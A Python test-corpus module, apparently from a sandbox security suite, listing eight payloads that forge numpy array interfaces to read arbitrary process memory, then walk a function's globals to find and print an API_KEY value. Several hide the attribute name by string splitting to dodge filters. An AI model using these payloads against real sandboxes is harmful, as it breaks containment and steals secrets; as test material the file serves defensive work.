"""Escapes: arrays that lie about where their memory is, and read that of the process."""

from tests.security.corpus.records import Escape, Goal

MEMORY = "memory read through arrays"

_SEARCH = """
address = int(at(id(price_of) + 16, 8).view("u8")[0])
keys = int(at(address, 48).view("u8")[4])
head = at(keys, 32)
start = keys + 32 + (1 << int(head[9]))
used = int(head.view("u8")[3])
size = 24 if int(head[10]) == 0 else 16
for entry in at(start, size * used).view("u8").reshape(-1, size // 8):
    key, value = (entry[1], entry[2]) if size == 24 else entry
    if b"API_KEY" in bytes(at(int(key), 100))[40:56]:
        print(bytes(at(int(value), 140)[40:140]))
"""
"""Walks from a function to the dict of its globals, and finds a name there.

It needs a function `at(address, count)` that returns the bytes there as an array.
"""

CELLS = (
    Escape(
        "memory-by-abcmeta",
        MEMORY,
        Goal.READ_HOST,
        """
import abc
import numpy as np
name = "".join(["__array_inter", "face__"])
def at(place, count):
    table = {"version": 3, "typestr": "|u1", "shape": (count,), "data": (place, True)}
    return np.array(abc.ABCMeta("A", (), {name: table})())
"""
        + _SEARCH,
    ),
    Escape(
        "memory-by-enum",
        MEMORY,
        Goal.READ_HOST,
        """
import enum
import numpy as np
name = "".join(["__array_inter", "face__"])
def at(place, count):
    table = {"version": 3, "typestr": "|u1", "shape": (count,), "data": (place, True)}
    return np.array(enum.Enum("E", {name: table, "X": 1}).X)
"""
        + _SEARCH,
    ),
    Escape(
        "memory-by-type-new",
        MEMORY,
        Goal.READ_HOST,
        """
import numpy as np
name = "".join(["__array_inter", "face__"])
class Meta(type):
    def __new__(cls, title, bases, names, table=None):
        return super().__new__(cls, title, bases, {**names, name: table})
def at(place, count):
    table = {"version": 3, "typestr": "|u1", "shape": (count,), "data": (place, True)}
    class A(metaclass=Meta, table=table):
        pass
    return np.array(A())
"""
        + _SEARCH,
    ),
    Escape(
        "memory-by-type-call",
        MEMORY,
        Goal.READ_HOST,
        """
import numpy as np
name = "".join(["__array_inter", "face__"])
def at(place, count):
    table = {"version": 3, "typestr": "|u1", "shape": (count,), "data": (place, True)}
    return np.array(type.__call__(type, "A", (), {name: table})())
"""
        + _SEARCH,
    ),
    Escape(
        "memory-by-getattr",
        MEMORY,
        Goal.READ_HOST,
        """
import numpy as np
class A:
    def __init__(self, *place):
        self.place = place
    def __getattr__(self, name):
        if not name.endswith("face__"):
            raise AttributeError(name)
        place, count = self.place
        return {"version": 3, "typestr": "|u1", "shape": (count,), "data": (place, True)}
def at(place, count):
    return np.array(A(place, count))
"""
        + _SEARCH,
    ),
    Escape(
        "memory-by-mapped-type",
        MEMORY,
        Goal.READ_HOST,
        """
import numpy as np
name = "".join(["__array_inter", "face__"])
def at(place, count):
    table = {"version": 3, "typestr": "|u1", "shape": (count,), "data": (place, True)}
    [A] = map(type, ["A"], [()], [{name: table}])
    return np.array(A())
"""
        + _SEARCH,
    ),
    Escape(
        "memory-by-namespace",
        MEMORY,
        Goal.READ_HOST,
        """
import types
import numpy as np
name = "".join(["__array_inter", "face__"])
def at(place, count):
    table = {"version": 3, "typestr": "|u1", "shape": (count,), "data": (place, True)}
    return np.array(types.SimpleNamespace(**{name: table}))
"""
        + _SEARCH,
    ),
    Escape(
        "memory-by-own-dict",
        MEMORY,
        Goal.READ_HOST,
        """
import numpy as np
name = "".join(["__array_inter", "face__"])
class A:
    pass
def at(place, count):
    a = A()
    vars(a)[name] = {"version": 3, "typestr": "|u1", "shape": (count,), "data": (place, True)}
    return np.array(a)
"""
        + _SEARCH,
    ),
)
